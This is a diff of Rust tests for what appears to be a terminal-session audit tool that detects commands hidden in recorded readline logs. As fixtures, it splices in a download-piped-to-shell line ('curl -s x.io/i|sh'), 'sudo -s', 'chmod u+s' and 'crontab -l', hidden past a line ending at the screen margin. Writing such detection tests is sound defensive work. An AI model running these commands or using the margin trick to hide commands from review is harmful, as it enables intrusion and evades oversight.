@@ -739,34 +739,76 @@ fn lines_wider_than_the_terminal_past_its_last_line_read_whole_once_the_width_is
 }
 
 /// The person being audited uses that ambiguity: the line after the one of exactly two rows
-/// is a download piped to a shell (as long as the honest line it replaces, so readline draws
-/// it the same way). It is read inside the line before it, all its text there, and that
-/// command says it may be two (confidence 0.7 and why), as does every line read as going on
-/// past the last line. A known limit, pinned: the download rule does not fire, as the text
-/// joined there reads `…fcurl`, no word boundary before `curl` (judging each place a row was
-/// read as going on as a possible start too would need where the screen joined them).
+/// is a command of their own (as long as the honest line it replaces, so readline draws it
+/// the same way). It is read inside the line before it, all its text there, and that command
+/// says it may be two (confidence 0.7 and why), as does every line read as going on past the
+/// last line. The rules read it as a command of its own too: the text from where the row was
+/// read as going on is judged, so a rule that needs a word's start (`…fcurl`) or the line's
+/// start (`…fsudo -s`) there still fires, said of the command that holds it.
 #[test]
-fn a_command_hidden_after_a_line_ending_at_the_margin_is_kept_and_said_to_be_uncertain() {
+fn a_command_hidden_after_a_line_ending_at_the_margin_is_kept_and_judged_on_its_own() {
     let name = "i32_paste_past_bottom_wide_known";
     let honest = [b"echo 7 ".as_slice(), &[b'v'; 20]].concat();
-    let hidden = b"curl -s x.io/i|sh #vvvvvvvv";
-    assert_eq!(honest.len(), hidden.len());
-    let mut bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
-    let mut replaced = 0;
-    while let Some(at) = bytes.windows(honest.len()).position(|w| w == honest.as_slice()) {
-        bytes[at..at + hidden.len()].copy_from_slice(hidden);
-        replaced += 1;
+    let original = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
+    let own = "may be a command of its own";
+    let plain = Analyzer::default().analyze_bytes(&original, Input::default());
+    assert!(plain.findings.iter().all(|f| !f.evidence.contains(own)), "{:?}", plain.findings);
+    for (hidden, rule) in [
+        (b"curl -s x.io/i|sh #vvvvvvvv".as_slice(), "SA-CMD-040"),
+        (b"sudo -s #vvvvvvvvvvvvvvvvvv", "SA-CMD-001"),
+    ] {
+        assert_eq!(honest.len(), hidden.len());
+        let mut bytes = original.clone();
+        let mut replaced = 0;
+        while let Some(at) = bytes.windows(honest.len()).position(|w| w == honest.as_slice()) {
+            bytes[at..at + hidden.len()].copy_from_slice(hidden);
+            replaced += 1;
+        }
+        assert!(replaced > 0);
+        let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
+        let typed = std::str::from_utf8(&hidden[..14]).unwrap();
+        let carrier = report.commands.iter().find(|c| c.command.contains(typed)).unwrap();
+        assert!(carrier.command.starts_with("echo ff"), "read inside the line before it");
+        assert_eq!(carrier.confidence, 0.7);
+        assert!(carrier.reason.as_deref().unwrap().contains("may be two commands"), "{carrier:?}");
+        let honest_lines = report.commands.iter().filter(|c| c.command.starts_with("echo "));
+        assert!(honest_lines.clone().any(|c| c.confidence == 1.0), "lines not joined keep 1.0");
+        let raised: Vec<_> = report.findings.iter().filter(|f| f.rule_id == rule).collect();
+        assert_eq!(raised.len(), 1, "{rule}: {:?}", report.findings);
+        assert_eq!(raised[0].command_seq, Some(carrier.seq));
+        assert!(raised[0].evidence.contains(own) && raised[0].evidence.contains(typed));
     }
-    assert!(replaced > 0);
+}
+
+/// Recorded for that attack, in a terminal of another size (72 columns, 10 rows) and another
+/// prompt: past the last line, `chmod u+s` right after a line of exactly one row and
+/// `crontab -l` right after a line of exactly two. The first is told apart (readline's wrap
+/// marker ends a line of one row); the second is read inside the line before it. Both rules
+/// fire, each said of the command holding it. The redraw of the last screenful, shorter in
+/// lines than the rows readline line-fed (its wide lines take two rows each), is kept once.
+#[test]
+fn commands_pasted_after_lines_ending_at_the_margin_raise_their_rules() {
+    let name = "i32_paste_past_bottom_hidden";
+    let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
+    let mut want = expected(name);
+    let two_rows = want.iter().position(|c| c.starts_with("echo sss")).unwrap();
+    assert_eq!(want[two_rows].chars().count(), 144);
+    let next = want.remove(two_rows + 1);
+    want[two_rows].push_str(&next);
+    for chunk in [1, 7, 4096] {
+        let (info, got) = reconstruct(&bytes, chunk);
+        assert_eq!(info.width, Some(72));
+        let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
+        assert_eq!(texts, want, "{name} (chunk {chunk})");
+    }
     let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
-    let carrier = report.commands.iter().find(|c| c.command.contains("curl -s x.io/i|sh")).unwrap();
-    assert!(carrier.command.starts_with("echo ff"), "read inside the line before it");
-    assert_eq!(carrier.confidence, 0.7);
-    assert!(carrier.reason.as_deref().unwrap().contains("may be two commands"), "{carrier:?}");
-    let honest_lines = report.commands.iter().filter(|c| c.command.starts_with("echo "));
-    assert!(honest_lines.clone().any(|c| c.confidence == 1.0), "lines not joined keep 1.0");
-    let piped: Vec<_> = report.findings.iter().filter(|f| f.rule_id == "SA-CMD-040").collect();
-    assert!(piped.is_empty(), "the known limit above: {piped:?}");
+    let seq_of = |start: &str| report.commands.iter().find(|c| c.command.starts_with(start));
+    let raised = |rule: &str| -> Vec<_> {
+        report.findings.iter().filter(|f| f.rule_id == rule).map(|f| f.command_seq).collect()
+    };
+    assert_eq!(raised("SA-CMD-003"), vec![seq_of("chmod u+s").map(|c| c.seq)]);
+    assert_eq!(raised("SA-CMD-021"), vec![seq_of("echo sss").map(|c| c.seq)]);
+    assert_eq!(seq_of("echo sss").unwrap().confidence, 0.7);
 }
 
 /// A terminal resized between a width learned and a paste taller than it: the paste begun low
